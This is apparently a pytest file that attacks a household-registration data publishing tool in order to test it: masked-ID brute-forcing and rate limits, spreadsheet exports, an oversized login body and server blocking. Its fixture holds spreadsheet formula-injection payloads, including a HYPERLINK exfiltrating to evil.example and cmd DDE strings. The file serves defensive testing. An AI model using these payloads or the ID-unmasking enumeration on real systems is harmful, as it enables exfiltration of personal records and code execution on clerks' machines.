"""A second, hostile read of issue 12's publish side: look-ups, households, exports, codes as words,
the chrome translation and the dashboard, attacked as a careless or curious clerk would.

Real `syncdb publish` on 127.0.0.1 over HTTP with staff signed in (the fixtures of test_household.py
and test_lookup.py), real `syncdb export` files opened as Excel would open them.
"""

from __future__ import annotations

import datetime
import re

from stdnum.cn import ric

from test_household import HEAD, MEMBERS, SON, WIFE, family, page_views, token_of  # noqa: F401
from test_lookup import look_up, office_files, secrets_of
from syncdb.schema import schemas_dir


def masked_row(session, url: str, token: str) -> dict:
    """What a masked clerk reads of a resident in the masked table."""
    rows = session.get(f"{url}/renkou/户籍_人员.json", params={"_shape": "array", "档案": token}).json()
    assert len(rows) == 1, rows
    return rows[0]


def candidates(masked_id: str, year: str) -> list[str]:
    """Every valid ID number a masked one (110105********042X) and a masked birth date (1980) allow,
    the last day of the year first: the real one (1 January) comes last."""
    prefix, tail = masked_id[:6], masked_id[-4:]
    day, out = datetime.date(int(year), 12, 31), []
    while day.year == int(year):
        body = prefix + day.strftime("%Y%m%d") + tail[:3]
        if ric.calc_check_digit(body + "0") == tail[-1]:
            out.append(body + tail[-1])
        day -= datetime.timedelta(days=1)
    return out


# ---------------------------------------------------------------- look-ups: guessing what a mask hides

def test_a_masked_clerk_cannot_unmask_an_id_number_by_looking_up_every_birth_date(family, publisher):
    """The ID mask hides the eight birth-date digits, the masked table shows the birth year and the
    check character: some 30 numbers fit. Each look-up says whether it is the resident (it goes to
    the token the masked table links to), so without a limit a masked clerk unmasks any number in
    a minute."""
    site = publisher(family, "--schemas", str(schemas_dir()))
    wife = token_of(site.sign_in("wangfang"), site.url, WIFE["id_number"])
    li = site.sign_in("lilei")
    seen = masked_row(li, site.url, wife)
    guesses = candidates(seen["公民身份号码"], seen["出生日期"])
    assert WIFE["id_number"] in guesses and 20 < len(guesses) < 40
    before = len(page_views(family))
    answers = [look_up(li, site.url, guess) for guess in guesses]
    confirmed = [g for g, a in zip(guesses, answers) if a.headers.get("Location") == f"/-/person/{wife}"]
    assert confirmed == [], "a masked clerk unmasked an ID number by trying the birth dates"
    waiting = [a for a in answers if a.status_code == 429]
    assert waiting and "found nobody" in waiting[0].text
    # Every try is still in the page-view log, as its blind index; the log says who was guessing.
    assert len(page_views(family)) == before + len(guesses)
    assert "lilei" in site.log() and "found nobody" in site.log()
    # Another clerk is not held up, and the one who guessed may still not confirm the number.
    assert look_up(site.sign_in("zhaomin"), site.url, WIFE["id_number"]).status_code == 303
    assert look_up(li, site.url, WIFE["id_number"]).status_code == 429
    site.stop()
    for secret in secrets_of(*MEMBERS) + [g.encode() for g in guesses]:
        assert secret not in office_files(family, site.log_path), secret


def test_a_masked_clerk_cannot_unmask_a_name_by_guessing_its_hidden_character(family, publisher):
    """张*明 hides one character: trying 张一明, 张二明 … would name the resident."""
    site = publisher(family, "--schemas", str(schemas_dir()))
    son = token_of(site.sign_in("wangfang"), site.url, SON["id_number"])
    li = site.sign_in("lilei")
    shown = masked_row(li, site.url, son)["姓名"]
    assert shown == "张*明"
    guesses = [shown.replace("*", c) for c in "一二三四五六七八九十大天文武国家建志春秋红" + "小"]
    answers = [look_up(li, site.url, guess) for guess in guesses]
    named = [g for g, a in zip(guesses, answers) if f'href="/-/person/{son}"' in a.text]
    assert named == [], "a masked clerk unmasked a name by guessing its hidden character"
    assert answers[-1].status_code == 429
    # Nor by a link: a look-up in an address (GET) is not a look-up, and is not answered.
    before = len(page_views(family))
    got = li.get(f"{site.url}/-/lookup", params={"q": SON["id_number"]}, allow_redirects=False)
    assert got.status_code == 200 and son not in got.text and len(page_views(family)) == before


# ---------------------------------------------------------------- exports a clerk opens in Excel

import csv  # noqa: E402
import io  # noqa: E402
import sqlite3  # noqa: E402

import openpyxl  # noqa: E402
import pytest  # noqa: E402
from click.testing import CliRunner  # noqa: E402

from conftest import person  # noqa: E402
from syncdb import merge  # noqa: E402
from syncdb.cli import cli  # noqa: E402

A = "441900003001"
# What a community's record may hold in a free-text cell; Excel runs each of these as a formula when a
# clerk opens a CSV holding it bare (=HYPERLINK sends the row to another site when clicked, +/-/@ too).
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&B2,"点击查看")',
    "address": "+cmd|' /C calc'!A0",
    "former_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "workplace": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def formulas(office_world, make_community, domains, syncdb_secret, syncdb_env):
    """A resident whose name, address, former name and workplace are formulas, merged at the office."""
    a = make_community(A)
    row = person(7, A, **FORMULAS)
    conn = sqlite3.connect(a.path / "huji.db")
    with conn:
        conn.execute(f"INSERT INTO persons ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})", list(row.values()))
    conn.close()
    summary = merge.merge(office_world.store, [a.export().path], syncdb_secret, domains)
    assert summary.rejected == [] and summary.changes == 1, summary
    return office_world.store, syncdb_env


def runs_in_excel(cell: str) -> bool:
    """Would Excel read this CSV cell as a formula that does something? ="…" (a string, the way
    export keeps text as text) only shows its text."""
    if re.fullmatch(r'="(?:[^"]|"")*"', cell):
        return False
    return cell.lstrip("\t\r ").startswith(("=", "+", "-", "@"))


def shown_by_excel(cell: str) -> str:
    found = re.fullmatch(r'="((?:[^"]|"")*)"', cell)
    return found[1].replace('""', '"') if found else cell


def test_a_csv_export_never_hands_excel_a_formula_from_a_record(formulas):
    store, env = formulas
    result = CliRunner().invoke(cli, ["export", str(store), "huji.persons"], env=env)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    assert len(rows) == 1
    for label, cell in rows[0].items():
        assert not runs_in_excel(cell), (label, cell)
    # And the clerk still reads exactly what the community wrote.
    assert shown_by_excel(rows[0]["姓名"]) == FORMULAS["name"]
    assert shown_by_excel(rows[0]["住址"]) == FORMULAS["address"]
    assert shown_by_excel(rows[0]["服务处所"]) == FORMULAS["workplace"]


def test_an_xlsx_export_keeps_a_formula_looking_record_as_text(formulas, tmp_path):
    store, env = formulas
    out = tmp_path / "人员.xlsx"
    result = CliRunner().invoke(cli, ["export", str(store), "huji.persons", "--format", "xlsx", "-o", str(out)],
                                env=env)
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    for name, label in (("name", "姓名"), ("address", "住址"), ("former_name", "曾用名"), ("workplace", "服务处所")):
        assert row[label].data_type == "s" and row[label].value == FORMULAS[name], label


def test_the_sites_excel_download_keeps_a_formula_looking_record_as_text(formulas, publisher, tmp_path):
    store, _env = formulas
    site = publisher(store)
    wang = site.sign_in("wangfang")
    got = wang.get(f"{site.url}/renkou_mingwen/户籍_人员.xlsx")
    assert got.status_code == 200, got.text[:300]
    out = tmp_path / "site.xlsx"
    out.write_bytes(got.content)
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    for name, label in (("name", "姓名"), ("address", "住址"), ("workplace", "服务处所")):
        assert row[label].data_type == "s" and row[label].value == FORMULAS[name], label


def test_the_sites_csv_never_hands_excel_a_formula_from_a_record(formulas, publisher):
    store, _env = formulas
    site = publisher(store)
    for who, database in (("wangfang", "renkou_mingwen"), ("lilei", "renkou")):
        got = site.sign_in(who).get(f"{site.url}/{database}/户籍_人员.csv")
        assert got.status_code == 200, got.text[:300]
        for row in csv.reader(io.StringIO(got.content.decode("utf-8-sig"))):
            for cell in row:
                assert not runs_in_excel(cell), (who, cell)


# ---------------------------------------------------------------- input that would stall publish

import time  # noqa: E402

import requests  # noqa: E402


def peak_memory_kib(pid: int) -> int:
    """The process's peak resident memory (VmHWM), in KiB."""
    status = open(f"/proc/{pid}/status").read()
    return int(re.search(r"VmHWM:\s+(\d+) kB", status)[1])


def test_a_huge_form_is_refused_before_it_is_read_even_before_sign_in(family, publisher):
    """The sign-in form is open to anyone on the office's network, and Datasette (its CSRF check, then
    the form) reads a whole body into memory: 200 MB posted would cost publish 200 MB or more."""
    site = publisher(family, "--schemas", str(schemas_dir()))
    anyone = requests.Session()
    token = anyone.get(f"{site.url}/-/login").text.split('name="csrftoken" value="', 1)[1].split('"', 1)[0]
    before = peak_memory_kib(site.process.pid)
    body = b"csrftoken=" + token.encode() + b"&username=lilei&password=" + b"x" * (200 * 1024 * 1024)
    started = time.monotonic()
    try:
        answer = anyone.post(f"{site.url}/-/login", data=body, allow_redirects=False, timeout=60,
                             headers={"Content-Type": "application/x-www-form-urlencoded"})
        status = answer.status_code
    except requests.ConnectionError:
        status = None  # refused and closed while the client was still sending: refused all the same
    assert status in (413, None), status
    assert time.monotonic() - started < 30
    assert peak_memory_kib(site.process.pid) - before < 50 * 1024, "publish read the whole body into memory"
    # And a clerk's look-up still answers, at once.
    li = site.sign_in("lilei")
    assert look_up(li, site.url, WIFE["id_number"]).status_code == 303


# ---------------------------------------------------------------- codes as words: a sensitive coded column

import dataclasses  # noqa: E402

from syncdb.projection import mask_value  # noqa: E402


def test_a_sensitive_coded_column_masks_every_code_alike(domains):
    """A schema may mark a coded column sensitive (a disability or a benefit kind, say). Its mask must
    not tell one code from another: 'm*******t' and 'd******d' say moved_out and deceased as well as
    the words would, and so would a facet on the masked database."""
    persons = domains["huji"].tables["persons"]
    for name in ("status", "relationship", "sex", "ethnicity"):
        column = dataclasses.replace(persons.columns[name], sensitive=True)
        codes = domains["huji"].code_table(column.codes)
        masked = {mask_value(column, code) for code in codes}
        assert len(masked) == 1, (name, sorted(masked))
        assert not any(code in masked for code in codes)


# ---------------------------------------------------------------- the site's Excel download and everyone else

import threading  # noqa: E402


@pytest.fixture
def crowded(office_world, make_community, domains, syncdb_secret):
    """One community of 12,000 residents: an Excel download of them takes publish a few seconds."""
    a = make_community(A)
    a.add_persons(12000)
    summary = merge.merge(office_world.store, [a.export().path], syncdb_secret, domains)
    assert summary.rejected == [] and summary.changes == 12000, summary
    return office_world.store


def test_an_excel_download_does_not_stop_everyone_elses_pages(crowded, publisher):
    """The workbook was made on publish's event loop: while one clerk's download was being made,
    no one else's page was answered."""
    site = publisher(crowded)
    li, wang = site.sign_in("lilei"), site.sign_in("wangfang")
    took = {}

    def download():
        started = time.monotonic()
        got = li.get(f"{site.url}/renkou/户籍_人员.xlsx", timeout=120)
        took["download"] = time.monotonic() - started
        took["status"] = got.status_code
    worker = threading.Thread(target=download)
    worker.start()
    time.sleep(0.3)  # the download is under way
    waits = []
    while worker.is_alive():
        started = time.monotonic()
        assert wang.get(f"{site.url}/-/sync", timeout=120).status_code == 200
        waits.append(time.monotonic() - started)
        time.sleep(0.1)
    worker.join()
    assert took["status"] == 200 and took["download"] > 1.0, took
    # On the event loop a page waited out the whole workbook; in a thread, a page may still wait a
    # moment for the GIL (up to 0.8 s of a 2.3 s download seen on an idle machine), never the whole.
    assert waits and max(waits) < took["download"] / 2, (max(waits), took)
